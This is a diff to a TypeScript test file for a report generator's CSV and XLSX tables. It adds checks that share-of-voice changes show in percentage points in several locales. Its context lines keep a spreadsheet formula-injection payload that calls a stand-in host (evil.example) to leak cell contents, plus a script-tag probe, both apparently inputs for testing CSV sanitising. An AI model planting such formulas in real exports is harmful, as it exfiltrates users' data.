@@ -9,10 +9,11 @@ import { afterEach, describe, expect, it, vi } from 'vitest';
 import { ConfigError, readConfig } from '../src/config/read-config.js';
 import { attachedFormats } from '../src/delivery/scheduled/send.js';
 import { writtenFormats } from '../src/delivery/scheduled/steps.js';
+import { KPI_KEYS } from '../src/report/model/report-shape.js';
 import { defaultReportSettings } from '../src/report/settings.js';
 import { DEFAULT_STYLE } from '../src/report/style.js';
 import { defused, tableCsv } from '../src/report/tables/csv.js';
-import { reportTables, TABLE_NAMES } from '../src/report/tables/report-tables.js';
+import { reportTables, TABLE_NAMES, workbookFacts } from '../src/report/tables/report-tables.js';
 import { sheetNames } from '../src/report/tables/sheet-names.js';
 import { tablesXlsx } from '../src/report/tables/xlsx.js';
 import * as h from './helpers/harness.js';
@@ -21,7 +22,12 @@ import { report } from './helpers/report-workspace.js';
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 const SCRIPT = '<script>alert(1)</script>';
 const DE = { ...DEFAULT_STYLE, locale: 'de-DE' };
-const FACTS = { day: '2026-10-08', author: 'Agentur', title: 'Client One: 5.-8. Oktober 2026' };
+const FACTS = {
+  day: '2026-10-08',
+  author: 'Agentur',
+  title: 'Client One: 5.-8. Oktober 2026',
+  points: { before: '', after: ' Pp.' },
+};
 
 afterEach(() => {
   vi.useRealTimers();
@@ -62,6 +68,7 @@ describe('report tables', () => {
     expect(notes(DE.sections)).toContain('Kaufabsicht: Für diesen Zeitraum ist kein Stand bekannt.');
     expect(notes(['kpis'])).toEqual([
       'In den CSV-Dateien steht Share of Voice in Prozent: 35.2 bedeutet 35,2\u00a0%.',
+      'Eine Veränderung des Share of Voice steht in Prozentpunkten (-4.5 bedeutet \u22124,5 Pp.).',
     ]);
     expect(notes(['engines'])).toEqual([]);
   });
@@ -180,6 +187,44 @@ describe('report tables', () => {
     expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Null);
     expect(row.getCell(5).value).toBe('Kein Wert für diesen Zeitraum');
     expect(wb.getWorksheet('Offen, nach Priorität')!.getCell('B2').value).toBe('bell title');
+  });
+
+  it('XLSX: a change of share of voice reads in percentage points in the locale, like the page', async () => {
+    // Share of voice 30 % after 34.5 %: a fall of 4.5 points (a relative change would be −13 %).
+    const sov = { ...r.kpis.share_of_voice, value: 30, previous: 34.5, delta: -4.5, comparable: true };
+    const fell = { ...r, kpis: { ...r.kpis, share_of_voice: sov } };
+    const kpisOf = async (style: typeof DE) => {
+      const tables = reportTables(fell, style);
+      const wb = await readWorkbook(await tablesXlsx(tables, workbookFacts(fell, style)));
+      return wb.getWorksheet(tables[1]!.title)!;
+    };
+    // The key figures' rows in KPI_KEYS order, under the header row.
+    const shareRow = (ws: ExcelJS.Worksheet) => ws.getRow(KPI_KEYS.indexOf('share_of_voice') + 2);
+    const delta = -4.5;
+    const de = shareRow(await kpisOf(DE)).getCell(4);
+    // The change is stored in points (not the fraction a "%" format shows as a relative change).
+    expect([de.type, de.value, de.numFmt]).toEqual([
+      ExcelJS.ValueType.Number,
+      delta,
+      '+0.0" Pp.";-0.0" Pp.";0.0" Pp."',
+    ]);
+    const en = shareRow(await kpisOf({ ...DE, locale: 'en-US' })).getCell(4);
+    expect([en.value, en.numFmt]).toEqual([delta, '+0.0" pp";-0.0" pp";0.0" pp"']);
+    // A "%" inside the quoted unit is literal: the value is not scaled.
+    const nl = shareRow(await kpisOf({ ...DE, locale: 'nl-NL' })).getCell(4);
+    expect([nl.value, nl.numFmt]).toEqual([delta, '+0.0" %-punt";-0.0" %-punt";0.0" %-punt"']);
+    // A score's change keeps its plain signed format.
+    expect((await kpisOf(DE)).getRow(2).getCell(4).numFmt).toBe('+0.0;-0.0;0.0');
+  });
+
+  it('CSV: the Report table says a change of share of voice is in percentage points', () => {
+    const about = reportTables(r, { ...DE, sections: ['cover', 'kpis'] })[0]!;
+    expect(about.rows.filter((row) => row[0] === 'Hinweis').map((row) => row[1])).toEqual([
+      'In den CSV-Dateien steht Share of Voice in Prozent: 35.2 bedeutet 35,2\u00a0%.',
+      'Eine Veränderung des Share of Voice steht in Prozentpunkten (-4.5 bedeutet \u22124,5 Pp.).',
+    ]);
+    const trendOnly = reportTables(r, { ...DE, sections: ['cover', 'trend'] })[0]!;
+    expect(trendOnly.rows.map((row) => row[1])).not.toContainEqual(expect.stringContaining('Prozentpunkt'));
   });
 
   it('sheet names: cut to 31 characters, no forbidden character, unique', () => {
